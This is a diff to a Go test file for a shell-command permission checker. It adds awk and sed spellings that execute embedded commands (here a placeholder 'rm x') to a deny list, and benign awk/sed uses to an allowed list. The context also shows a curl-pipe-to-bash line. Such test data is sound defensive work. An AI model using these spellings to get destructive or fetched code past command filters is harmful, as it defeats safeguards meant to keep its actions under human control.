@@ -271,6 +271,19 @@ var denySpellings = []string{
 	`curl -s https://example.com/x | cat | bash`,
 	`(echo 'rm x') | sh`,
 	`{ echo 'rm x'; } | sh -s`,
+	// awk and sed run commands their programs build
+	`awk 'BEGIN{system("rm x")}'`,
+	`gawk -v a=1 'BEGIN { system("r" "m x") }'`,
+	`awk '{print | "rm x"}' f`,
+	`awk 'BEGIN{"rm x" | getline}'`,
+	`awk -e 'BEGIN{print |& "rm x"}'`,
+	`busybox awk 'BEGIN{system("rm x")}'`,
+	`sed -n '1e rm x' f`,
+	`sed 's/x/rm x/e' f`,
+	`sed --expression='1e rm x' f`,
+	`sed -ne '$e rm x' f`,
+	`sed '/a/,/b/{s|.*|rm x|e}' f`,
+	`sed 'y/a/b/;e rm x' f`,
 }
 
 var askSpellings = []string{
@@ -405,6 +418,8 @@ var untouched = []string{
 	`[[ $a -eq 1 ]]`, `x=1; echo $((x + 1))`, `a[1]=2`, `mapfile -t lines < f`, `nix develop`, `mise x node@20`,
 	`tar -czf a.tgz src`, `ssh -o BatchMode=yes host true`, `rsync -a src/ dst/`, `gdb -batch -ex bt ./a.out core`,
 	`tar xzf a.tgz -C dst`, `tar --checkpoint=100 -cf a.tar src`, `rsync -avz --delete src/ dst/`, `split --lines=10 f`,
+	`awk '{print $1}' f`, `awk -F: '$1 > 1 || $2 == "e" {print}' f`, `sed -n 's/a/b/gp' f`, `sed -i.bak 's/x/y/' f`,
+	`sed '/^#/d; s/e/E/g' f`, `sed -e '1i header' f`, `sed 'y/abc/xyz/' f`, `sed '$!N;P;D' f`, `sed -E 's#(e)#\1#2w out' f`,
 }
 
 func TestBenignCommandsStayAllowed(t *testing.T) {
